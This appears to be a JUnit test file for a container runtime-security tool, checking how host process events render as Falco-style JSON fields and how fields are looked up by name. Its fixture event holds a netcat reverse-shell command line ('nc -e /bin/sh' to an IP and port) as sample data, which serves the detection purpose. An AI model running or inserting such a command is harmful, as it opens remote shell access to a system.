package dev.vigil.model.host;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.model.identity.ContainerIdentity;
import dev.vigil.model.identity.WorkloadRef;
import java.util.List;
import org.junit.jupiter.api.Test;

class HostEventTest {

    static HostEvent exec() {
        HostEvent.Process p = new HostEvent.Process(4242, 4000, "nc", "/bin/busybox", List.of("nc", "-e", "/bin/sh", "10.0.0.1", "4444"),
                "/tmp", List.of("sh", "containerd-shim", "systemd"), new long[] {4000, 3000, 1}, 0, 1_700_000_000_000_000_000L,
                0, 0, "root", 4000, 0x1fffeffffffL, 4026532246L, 4026532249L, 4026532177L, "/kubepods/x", true, false);
        ContainerIdentity id = new ContainerIdentity("a".repeat(64), "containerd", "shop", "api-1", "uid-1", "api",
                "registry.example/shop/api:1.2@sha256:" + "b".repeat(64), "sha256:" + "b".repeat(64),
                new WorkloadRef("shop", "Deployment", "api"));
        return new HostEvent("execve", 1_700_000_000_123_456_789L, "proc", p,
                new HostEvent.Container("a".repeat(64), "containerd", id), null, null, null, null, null);
    }

    @Test
    void rendersFalcoFieldNames() {
        String json = exec().toJson();
        assertThat(json).startsWith("{\"log\":\"host\",\"ts\":1700000000.123457,\"evt.type\":\"execve\","
                + "\"evt.time\":\"2023-11-14T22:13:20.123456789Z\",\"evt.rawtime\":1700000000123456789,");
        assertThat(json).contains("\"proc.name\":\"nc\"", "\"proc.cmdline\":\"nc -e /bin/sh 10.0.0.1 4444\"",
                "\"proc.args\":\"-e /bin/sh 10.0.0.1 4444\"", "\"proc.pname\":\"sh\"", "\"proc.aname[2]\":\"containerd-shim\"",
                "\"proc.aname[3]\":\"systemd\"", "\"proc.apid[1]\":4000", "\"proc.is_exe_upper_layer\":true",
                "\"container.id\":\"aaaaaaaaaaaa\"", "\"container.image.repository\":\"registry.example/shop/api\"",
                "\"container.image.digest\":\"sha256:" + "b".repeat(64) + "\"", "\"k8s.ns.name\":\"shop\"",
                "\"k8s.pod.name\":\"api-1\"", "\"user.name\":\"root\"");
        assertThat(json).doesNotContain("fd.name", "evt.args");
    }

    @Test
    void typedAccessByFalcoName() {
        HostEvent e = exec();
        assertThat(e.field("proc.pid")).isEqualTo(4242L);
        assertThat(e.field("proc.aname[3]")).isEqualTo("systemd");
        assertThat(e.field("proc.aname")).isEqualTo("sh");
        assertThat(e.field("proc.apid[2]")).isEqualTo(3000L);
        assertThat(e.field("proc.aname[9]")).isNull();
        assertThat(e.field("proc.aname[x]")).isNull();
        assertThat(e.field("no.such.field")).isNull();
        assertThat(e.field("fd.name")).isNull();
        assertThat(HostField.byName("proc.is_exe_upper_layer").kind()).isEqualTo(HostField.Kind.BOOL);
        assertThat(e.field("container.id")).isEqualTo("aaaaaaaaaaaa");
    }

    @Test
    void hostProcessesAndUnknownValues() {
        HostEvent e = new HostEvent("procexit", 0, "proc", HostEvent.Process.minimal(7, -1, null, List.of(), new long[0]),
                null, null, null, null, 0, 9);
        assertThat(e.field("container.id")).isEqualTo("host");
        assertThat(e.field("proc.ppid")).isNull();
        assertThat(e.field("evt.arg.sig")).isEqualTo(9L);
        assertThat(e.toJson()).doesNotContain("proc.ppid", "proc.cmdline", "k8s.");
    }
}
